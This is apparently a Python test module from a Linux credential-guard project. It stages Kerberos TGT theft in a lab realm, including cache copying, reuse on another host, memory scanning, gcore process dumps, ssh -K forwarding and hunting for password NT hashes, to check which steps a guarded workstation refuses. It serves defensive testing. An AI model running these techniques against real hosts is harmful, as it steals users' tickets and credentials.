# SPDX-License-Identifier: GPL-3.0-or-later
"""The thefts of a TGT that `./waf demo` shows and test_tgt_theft.py checks:
the same function against the stock and against the guarded workstation. Each
returns the loot's description, or None when the last step was refused."""
import contextlib
import pathlib
import subprocess
import tempfile
import time

from tests.attack import wiretap
from tests.lab import labtest

REALM = 'EXAMPLE.TEST'
FS1 = 'fs1.example.test'
LOOT = '/tmp/loot'
TOOLS = f'{labtest.BUILD}/tests/attack'
SSH = ('ssh', '-o', 'StrictHostKeyChecking=no', '-o', 'BatchMode=yes',
       '-o', 'PreferredAuthentications=gssapi-with-mic')


class Victim:
    """alice, signed in on HOST; key and ticket are what the domain knows of
    her TGT, bytes that no thief may have."""

    def __init__(self, host, how):
        self.host, self.how = host, how
        with tempfile.TemporaryDirectory() as folder:
            keytab = wiretap.krbtgt_keytab(f'{folder}/krbtgt')
            with wiretap.Wiretap(host) as tap:
                how(host)
            reply = tap.replies(wiretap.AS_REP)[-1]
            opened = wiretap.open_ticket(reply, keytab)
        self.key = bytes.fromhex(opened['key'])
        self.ticket = bytes.fromhex(opened['ticket'])
        self.uid = self.on('id', '-u').stdout.strip()

    def on(self, *argv, **options):
        return labtest.on(self.host, *argv, user='alice', **options)

    def cache(self):
        """What KRB5CCNAME says to programs that are asked for by name."""
        return 'KCM:' if self.host == 'ws1' else f'FILE:/tmp/krb5cc_{self.uid}'

    def is_in(self, data):
        """Any 16 bytes of the ticket or 8 of the key are a find."""
        parts = [self.key[at:at + 8] for at in range(0, 25, 8)]
        parts += [self.ticket[at:at + 16]
                  for at in range(0, len(self.ticket) - 15, 16)]
        return any(part in data for part in parts)

    def patterns(self):
        return self.key, self.ticket[:64], self.ticket[-64:]


def by_kinit(host):
    labtest.kinit(host)


def by_credguardctl(host):
    labtest.on(host, 'credguardctl', 'logon', 'alice', '--password-fd', '0',
               user='alice', input=labtest.password('alice') + '\n')


def read_file(host, path, user='root'):
    done = subprocess.run(
        labtest.hosts.on_argv(host, ('cat', path), user),
        capture_output=True, check=False)
    return done.stdout


def copy_files(victim):
    """T5: root copies what lies in the folders for temporary files."""
    names = labtest.on(victim.host, 'find', '/tmp', '/run', '/var/tmp',
                       '/var/lib/samba', '/var/cache', '/home', '/root',
                       '-type', 'f', '-size', '-4096k').stdout.split()
    root = pathlib.Path(
        f'/proc/{labtest.state.keeper(victim.host)}/root')
    for name in names:
        try:
            data = (root / name.lstrip('/')).read_bytes()
        except FileNotFoundError:
            continue
        if 'lab/' not in name and victim.is_in(data):
            return f'{name} has the TGT and its key'
    return None


def copy_cache(victim):
    """T5, T6: the user's own uid copies the cache with libkrb5."""
    victim.on('rm', '-f', LOOT)
    victim.on(f'{TOOLS}/copy_cache', f'FILE:{LOOT}')
    data = read_file(victim.host, LOOT)
    assert b'krbtgt' in data, 'the copy has no entry for the TGT at all'
    return 'a cache with the TGT and its key' if victim.is_in(data) else None


def use_copy_elsewhere(victim):
    """T5: the copied cache on another machine."""
    copy_cache(victim)
    data = read_file(victim.host, LOOT)
    subprocess.run(labtest.hosts.on_argv(
        'fs1', ('sh', '-c', f'cat >{LOOT}; chmod 600 {LOOT}'), 'bob'),
        input=data, check=True)
    done = labtest.on('fs1', 'env', f'KRB5CCNAME=FILE:{LOOT}', 'kvno',
                      'ldap/dc1.example.test', user='bob', check=False)
    labtest.on('fs1', 'rm', '-f', LOOT)
    return 'a ticket as alice, on fs1' if done.returncode == 0 else None


def read_memory(victim):
    """T1, T2: root reads the memory of every process."""
    report = labtest.scan(victim.host, *victim.patterns())
    found = sorted({name for _, name, _, _ in labtest.hits(report)})
    return f'in the memory of {", ".join(found)}' if found else None


def dump_processes(victim):
    """T2: root writes a core file of each process with gcore."""
    script = ('cd /tmp; mkdir -p cores; for p in $(pgrep -u '
              f'credguard,credguard-vault,{victim.uid}); do gcore -o cores/c '
              '$p; done 2>&1; ls cores')
    listed = labtest.on(victim.host, 'sh', '-c', script).stdout
    cores = [name for name in listed.split() if name.startswith('c.')]
    # gcore did attach and write: to our daemons too, where they run.
    assert len(cores) >= (1 if victim.host == 'ws2' else 3), listed
    looted = [name for name in cores
              if victim.is_in(read_file(victim.host, f'/tmp/cores/{name}'))]
    labtest.on(victim.host, 'rm', '-rf', '/tmp/cores')
    return f'{len(looted)} core file(s) with the TGT' if looted else None


def forward(victim):
    """T13: a server that the user visits with `ssh -K` gets the TGT."""
    done = victim.on(*SSH, '-K', FS1, 'klist; true')
    assert 'klist' in done.stderr or 'Ticket cache' in done.stdout, done
    return ('alice\'s TGT on fs1' if f'krbtgt/{REALM}' in done.stdout
            else None)


def kcm_reads(victim, user):
    """T6, T7: every read operation of KCM, raw, with every name of the TGT.
    Returns (lines, those with the loot)."""
    done = labtest.on(victim.host, '/usr/bin/python3', '-B',
                      f'{labtest.TREE}/tests/attack/kcm_thief.py', victim.uid,
                      REALM, user=user)
    lines = [line.split(' ') for line in done.stdout.splitlines()]
    return lines, [line for line in lines
                   if victim.is_in(bytes.fromhex(line[2]))]


def read_password(victim):
    """T1: after a login by PAM root looks for the password and its NT hash."""
    password = labtest.password('alice')
    labtest.on(victim.host, 'pamtester', 'login', 'alice', 'authenticate',
               input=password + '\n')
    report = labtest.scan(victim.host, labtest.nt_hash('alice'),
                          password.encode())
    found = sorted({name for _, name, _, _ in labtest.hits(report)})
    return f'in the memory of {", ".join(found)}' if found else None


CACHE_THEFTS = (
    ('root copies credential cache files', copy_files),
    ('malware as alice copies the cache', copy_cache),
    ('the copy is used on another machine', use_copy_elsewhere),
    ('a server gets the TGT by ssh -K', forward),
)
# While a program of alice's is running.
MEMORY_THEFTS = (
    ('root looks for password and NT hash', read_password),
    ('root reads all memory', read_memory),
    ('root dumps processes with gcore', dump_processes),
)


class OpenProgram:
    """A program of alice's that goes on using her credentials. On the stock
    host it is smbclient, which keeps the TGT that it got in its memory."""

    def __init__(self, host, stock):
        argv = (*SSH, FS1, 'sleep 600')
        if stock:
            argv = ('smbclient', f'//{FS1}/share', '-U',
                    f'alice%{labtest.password("alice")}',
                    '--use-kerberos=required')
        self.argv, self.host = argv, host

    def __enter__(self):
        self.child = labtest.start(self.host, *self.argv, user='alice',
                                   stdin=subprocess.PIPE,
                                   stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL)
        time.sleep(2)
        return self

    def __exit__(self, *_):
        self.child.stdin.close()
        self.child.terminate()
        self.child.wait()


@contextlib.contextmanager
def at_work(host, how=None):
    """alice signed in by HOW on HOST and a program of hers running; without
    HOW it is smbclient on the stock host, which signs in itself."""
    programs = []

    def open_smbclient(where):
        programs.append(OpenProgram(where, stock=True).__enter__())

    try:
        victim = Victim(host, how or open_smbclient)
        if how:
            programs.append(OpenProgram(host, stock=False).__enter__())
        yield victim
    finally:
        for program in programs:
            program.__exit__()
